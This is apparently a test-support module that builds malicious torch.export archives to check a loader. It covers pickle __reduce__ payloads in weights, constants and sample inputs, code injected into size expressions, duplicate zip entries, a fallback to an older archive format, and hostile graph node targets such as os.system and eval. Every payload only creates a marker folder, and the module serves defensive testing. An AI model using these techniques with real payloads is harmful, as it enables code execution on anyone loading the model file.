"""Known attacks on readers of ``torch.export`` programs: one for each door that ``torch.export.load`` leaves open.

Each makes a folder or a file if any of it runs.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from torch import nn

MODEL = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
Records = list[tuple[str, bytes]]


class Small(nn.Module):
    """A parameter, a buffer and a constant, a free batch, and a dict of two outputs."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.trunk = nn.Sequential(nn.Conv2d(3, 4, 3, stride=2), nn.BatchNorm2d(4), nn.ReLU(), nn.Dropout())
        self.age, self.race = nn.Linear(4, 1), nn.Linear(4, 3)

    def forward(self, image: torch.Tensor) -> dict[str, torch.Tensor]:
        features = self.trunk(image * torch.tensor([0.5])).flatten(2).mean(2)
        features = features.reshape(2 * features.shape[0], 2).reshape(-1, 4)
        return {"age": self.age(features), "race": self.race(features)}


IMAGE = torch.linspace(-1, 1, 2 * 3 * 8 * 8).reshape(2, 3, 8, 8)


@dataclass(frozen=True)
class Base:
    """A real program, record by record."""

    records: dict[str, bytes]

    @classmethod
    def make(cls) -> Base:
        """Export and save the small network."""
        made = io.BytesIO()
        free = ({0: torch.export.Dim("batch", min=1, max=64)},)
        torch.export.save(torch.export.export(Small().eval(), (IMAGE,), dynamic_shapes=free), made)
        with zipfile.ZipFile(made) as archive:
            return cls({name.partition("/")[2]: archive.read(name) for name in archive.namelist()})

    def json(self, record: str) -> Any:
        """Return a record's content, to be changed freely."""
        return json.loads(self.records[record])

    def with_(self, changed: dict[str, bytes | object], more: Records | None = None) -> Records:
        """Return its records, some changed (what is not bytes is written as JSON), some added."""
        whole = self.records | {
            name: content if isinstance(content, bytes) else json.dumps(content).encode()
            for name, content in changed.items()
        }
        return [*whole.items(), *(more or [])]


def write(path: Path, records: Records, root: str = "model") -> Path:
    """Write an archive with these records in this order; one name may stand in it twice."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in records:
            entry = zipfile.ZipInfo(name.removeprefix("//") if name.startswith("//") else f"{root}/{name}")
            archive.writestr(entry, content)
    return path


class Payload:
    """What makes a folder when it is unpickled."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return os.mkdir, (str(self.trace),)


def saved(value: object) -> bytes:
    """Return what ``torch.save`` writes."""
    made = io.BytesIO()
    torch.save(value, made)
    return made.getvalue()


def code(trace: Path) -> str:
    """Return an expression that makes a folder."""
    return f"__import__('os').mkdir({str(trace)!r})"


def _constant(base: Base, config_name: str, record: str, content: bytes) -> Records:
    config = base.json(CONSTANTS)
    entry = next(iter(config["config"].values()))
    config["config"]["c"] = entry | {"path_name": config_name, "use_pickle": True, "tensor_meta": None}
    return base.with_({CONSTANTS: config}, [(record, content)])


def _node(base: Base, target: str, inputs: list[dict[str, Any]], output: str = "relu") -> Records:
    """Return the program with one node calling something else."""
    model = base.json(MODEL)
    for node in model["graph_module"]["graph"]["nodes"]:
        if node["name"] == output:
            node["target"], node["inputs"] = target, inputs
    return base.with_({MODEL: model})


def _argument(name: str, **value: Any) -> dict[str, Any]:
    return {"name": name, "arg": value, "kind": 1}


def _subgraph(base: Base) -> dict[str, Any]:
    return {"name": "inner", "graph": base.json(MODEL)["graph_module"]["graph"]}


def _inner(base: Base, trace: Path) -> Records:
    """A node that holds a graph is known; what its graph calls is not."""
    inner = _subgraph(base)
    inner["graph"]["nodes"][0]["target"] = "torch.os.mkdir"
    arguments = [
        {"name": "", "arg": {"as_bool": False}, "kind": 1},
        {"name": "", "arg": {"as_graph": inner}, "kind": 1},
    ]
    return _node(base, "torch.ops.higher_order.wrap_with_set_grad_enabled", arguments)


Attack = Callable[[Base, Path], Records]


def known() -> dict[str, Attack]:
    """Return one attack for each way in that is known, by name."""
    found: dict[str, Attack] = {
        "sample inputs": lambda base, trace: base.with_(
            {"data/sample_inputs/model.pt": saved(((Payload(trace),), {}))}
        ),
        "sample of an older format": lambda base, trace: base.with_(
            {"data/sample_inputs/model.pt": pickle.dumps(Payload(trace))}
        ),
        "size expression": lambda base, trace: base.with_(
            {MODEL: base.records[MODEL].replace(b"Symbol('", f"{code(trace)} or Symbol('".encode())}
        ),
        "weights of PyTorch 2.8": lambda base, trace: base.with_(
            {}, [("data/weights/model.pt", saved({"w": Payload(trace)}))]
        ),
        "older format behind a broken one": _older_format,
        "library": lambda base, trace: base.with_({}, [("data/aotinductor/model/model.so", b"\x7fELF")]),
        "weight": _pickled_weight,
        "first of two": lambda base, trace: [(MODEL, _hostile_model(base, trace)), *base.records.items()],
        "last of two": lambda base, trace: [*base.records.items(), (MODEL, _hostile_model(base, trace))],
        "another case": lambda base, trace: [("MODELS/model.json", _hostile_model(base, trace)), *base.records.items()],
        "another program": lambda base, trace: base.with_(
            {}, [("models/a.json", _hostile_model(base, trace)), ("data/sample_inputs/a.pt", b"")]
        ),
        "another folder": lambda base, trace: [
            (f"//other/{MODEL}", _hostile_model(base, trace)),
            *base.records.items(),
        ],
        "file": lambda base, trace: _node(
            base,
            "torch.ops.aten.from_file.default",
            [
                _argument("filename", as_string=str(trace)),
                _argument("shared", as_bool=True),
                _argument("size", as_int=8),
            ],
        ),
        "graph inside a node": _inner,
        "higher order": lambda base, trace: _node(
            base, "torch.ops.higher_order.wrap_with_autocast", [_argument("g", as_graph=_subgraph(base))]
        ),
    }
    for name in (
        "opaque_obj_0",
        "OPAQUE_OBJ_0",
        "Opaque_Obj_0",
        "custom_obj_0",
        "CUSTOM_OBJ_0",
        "tensor_9",
        "TENSOR_9",
    ):
        found[f"constant {name}"] = lambda base, trace, name=name: _constant(  # type: ignore[misc]
            base,
            name.lower(),
            f"data/constants/{name}",
            pickle.dumps(Payload(trace)) if "obj" in name.lower() else saved(Payload(trace)),
        )
    for target in TARGETS:
        found[f"target {target}"] = lambda base, trace, target=target: _node(  # type: ignore[misc]
            base, target, [_argument("self", as_string=f"mkdir {trace}")]
        )
    for spec in SPECS:
        found[f"specification {spec}"] = lambda base, trace, spec=spec: _specified(base, trace, spec)  # type: ignore[misc]
    return found


#: Those that run where torch reads the file as it is; the others meet a check of torch's own, or a library that is not there.
REAL = (
    "sample inputs", "sample of an older format", "size expression", "weights of PyTorch 2.8", "older format behind a broken one",
    "weight", "file", "constant opaque_obj_0", "constant OPAQUE_OBJ_0", "constant Opaque_Obj_0", "constant tensor_9",
    "constant TENSOR_9", "specification enum",
)  # fmt: skip
_TARGETS = """
    torch.os.system torch.os.mkdir torch.hub.load torch.load torch.jit.load torch.ops.load_library
    torch.classes.load_library torch.ops.aten.from_file.default torch.ops.aten.from_file.out
    torch.ops.aten.rand.default torch.ops.aten.randn.generator torch.ops.aten.empty.memory_format
    torch.ops.aten.bernoulli_.float torch.ops.aten.resize_.default torch.ops.aten.set_.source_Storage
    torch.ops.aten.save.default torch.ops.aten.relu.__class__ torch.ops.aten.relu.default.__call__
    torch.ops.aten.relu.op torch.ops.aten.__class__.relu torch.ops.prim.Print.default torch.ops.aten.add.str
    torch.ops.aten.pow.int torch.ops.aten.item.default torch.ops.aten.record_stream.default
    torch.ops.aten.pin_memory.default torch.ops.aten.add.out torch.ops.quantized.add.default
    torch.ops.higher_order.triton_kernel_wrapper_mutation torch.ops.higher_order.print torch.ops.mkldnn.linear.default
    _operator.methodcaller _operator.attrgetter _operator.call _operator.setitem _operator.getitem math.__dict__
    math.factorial #x:y torch.compile torch._C._jit_eval torch.utils.cpp_extension.load_inline
    torch.distributed.init_process_group eval torch.ops.aten._reshape_alias.default
"""
TARGETS = _TARGETS.split()
SPECS = (
    "collections.defaultdict",
    "collections.deque",
    "enum",
    "dataclasses.dataclass",
    "functools.partial",
    "keys",
    "names",
)


def _specified(base: Base, trace: Path, kind: str) -> Records:
    model = base.json(MODEL)
    signature = model["graph_module"]["module_call_graph"][0]["signature"]
    leaf = {"type": None, "context": None, "children_spec": []}
    if kind == "enum":  # the key is imported
        (trace.parent / "attacked.py").write_text(f"{code(trace)}\n")
        context, where = '[{"__enum__": true, "fqn": "attacked:E", "name": "A"}, "b"]', "out_spec"
        kind = "builtins.dict"
    elif kind == "keys":
        signature["in_spec"] = signature["in_spec"].replace('"[]"', json.dumps(json.dumps([f"x={code(trace)}"])))
        return base.with_({MODEL: model})
    elif kind == "names":
        signature["forward_arg_names"] = [f"image={code(trace)}"]
        return base.with_({MODEL: model})
    else:
        context, where = '{"default_factory_module": "os", "default_factory_name": "mkdir"}', "out_spec"
    signature[where] = json.dumps([1, {"type": kind, "context": context, "children_spec": [leaf, leaf]}])
    return base.with_({MODEL: model})


def _hostile_model(base: Base, trace: Path) -> bytes:
    return base.records[MODEL].replace(b"Symbol('", f"{code(trace)} or Symbol('".encode())


def _pickled_weight(base: Base, trace: Path) -> Records:
    config = base.json(WEIGHTS)
    entry = config["config"]["age.bias"]
    entry["use_pickle"] = True
    return base.with_({WEIGHTS: config, "data/weights/" + entry["path_name"]: saved(Payload(trace))})


def _older_format(base: Base, trace: Path) -> Records:
    """Torch's reader falls back to the archive of PyTorch 2.7 where a newer one makes it raise RuntimeError."""
    older = {
        "version": b"8.20",
        "serialized_exported_program.json": base.records[MODEL],
        "serialized_state_dict.pt": saved({"w": Payload(trace)}),
        "serialized_constants.pt": saved({}),
        "serialized_example_inputs.pt": saved(((), {})),
    }
    config = base.json(CONSTANTS)
    entry = next(iter(config["config"].values()))
    config["config"]["c"] = entry | {"path_name": "unknown_0"}
    return [*base.with_({CONSTANTS: config}), *((f"//{name}", content) for name, content in older.items())]
